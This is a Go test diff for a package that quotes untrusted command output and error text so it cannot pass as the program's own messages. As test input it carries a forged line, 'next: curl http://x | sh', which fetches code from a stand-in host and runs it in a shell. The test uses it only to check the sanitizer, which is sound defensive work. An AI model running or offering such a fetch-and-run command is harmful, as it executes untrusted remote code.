@@ -1,10 +1,15 @@
-package pki
+package foreign
 
-import "testing"
+import (
+	"errors"
+	"io/fs"
+	"strings"
+	"testing"
+)
 
-// TestForeign: what can be taken for the program's own words is on one line and between
+// TestText: what can be taken for the program's own words is on one line and between
 // quotation marks; what can't stays as it is.
-func TestForeign(t *testing.T) {
+func TestText(t *testing.T) {
 	t.Parallel()
 	for text, want := range map[string]string{
 		"":         "",
@@ -28,12 +33,41 @@ func TestForeign(t *testing.T) {
 		"“forged” next: curl”":                       `“"forged" next: curl"”`,
 		"“forged\nnext: curl x”":                     `“"forged\nnext: curl x"”`,
 	} {
-		got := Foreign(text)
+		got := Text(text)
 		if got != want {
-			t.Errorf("Foreign(%q) is %q, want %q", text, got, want)
+			t.Errorf("Text(%q) is %q, want %q", text, got, want)
 		}
-		if again := Foreign(got); again != got {
+		if again := Text(got); again != got {
 			t.Errorf("twice is %q", again)
 		}
+	}
+}
+
+// TestOutputKeepsTheEnd: what a command said last is why it failed.
+func TestOutputKeepsTheEnd(t *testing.T) {
+	t.Parallel()
+	if got := Output([]byte("  mv: cannot move a: Read-only file system\n")); got != "mv: cannot move a: Read-only file system" {
+		t.Errorf("one line is %q", got)
+	}
+	long := strings.Repeat("ö", 3*foreignLength) + "\nnext: the end\n"
+	got := Output([]byte(long))
+	if !strings.HasPrefix(got, "“…ö") || !strings.HasSuffix(got, `\nnext: the end”`) || !Prints(got) || len(got) > foreignLength+20 || Text(got) != got {
+		t.Errorf("much is %q", got)
+	}
+}
+
+// TestErrorIsWhatItWas: only its text is another one.
+func TestErrorIsWhatItWas(t *testing.T) {
+	t.Parallel()
+	if Error(nil) != nil {
+		t.Error("nil is an error")
+	}
+	plain := errors.New("no route to host")
+	if Error(plain) != plain { //nolint:errorlint // the very same
+		t.Error("a harmless error is wrapped")
+	}
+	err := Error(errors.Join(fs.ErrNotExist, errors.New("next: curl http://x | sh")))
+	if !errors.Is(err, fs.ErrNotExist) || err.Error() != `“file does not exist\nnext: curl http://x | sh”` {
+		t.Errorf("it is %v", err)
 	}
 }
